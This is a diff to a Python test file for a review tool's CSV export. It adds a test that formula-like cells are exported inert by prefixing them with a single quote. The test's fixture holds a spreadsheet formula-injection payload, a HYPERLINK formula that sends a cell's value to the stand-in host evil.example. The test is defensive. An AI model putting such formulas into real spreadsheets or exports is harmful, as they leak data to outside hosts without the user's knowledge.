@@ -6,10 +6,10 @@ import csv
 import re
 
 import pytest
-from review_support import staged_records, synced_db, tiny_dataset
+from review_support import escalated, staged_records, synced_db, tiny_dataset
 
 from bridge.core.errors import InputError
-from bridge.review.csvio import EXPORT_COLUMNS, export_csv, import_csv
+from bridge.review.csvio import EXPORT_COLUMNS, export_csv, import_csv, inert_cell
 
 
 @pytest.fixture
@@ -125,3 +125,19 @@ def test_missing_column_is_named(db, tmp_path):
     path = write_rows(tmp_path / "x.csv", ["item_id", "label"], [["a", "1"]])
     with pytest.raises(InputError, match="missing column 'worker'"):
         import_csv(db, path)
+
+
+def test_a_passage_that_starts_like_a_formula_is_exported_inert(tiny_beir, tmp_path):
+    """A spreadsheet runs a cell that starts with = + - @; the export puts a single quote before such text."""
+    import json
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    with open(tiny_beir / "corpus.jsonl", "a", encoding="utf-8") as handle:
+        handle.write(json.dumps({"_id": "d7", "title": "", "text": formula}) + "\n")
+    db = synced_db(tmp_path / "r.sqlite", tiny_dataset(tiny_beir), [escalated("q1", "d7")], check_share=0.0)
+    export_csv(db, tmp_path / "items.csv")
+    (row,) = read_rows(tmp_path / "items.csv")
+    assert row["chunk"] == "'" + formula
+    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
+        assert inert_cell(text) == "'" + text
+    assert inert_cell("Rontgen = X-rays") == "Rontgen = X-rays" and inert_cell("") == ""
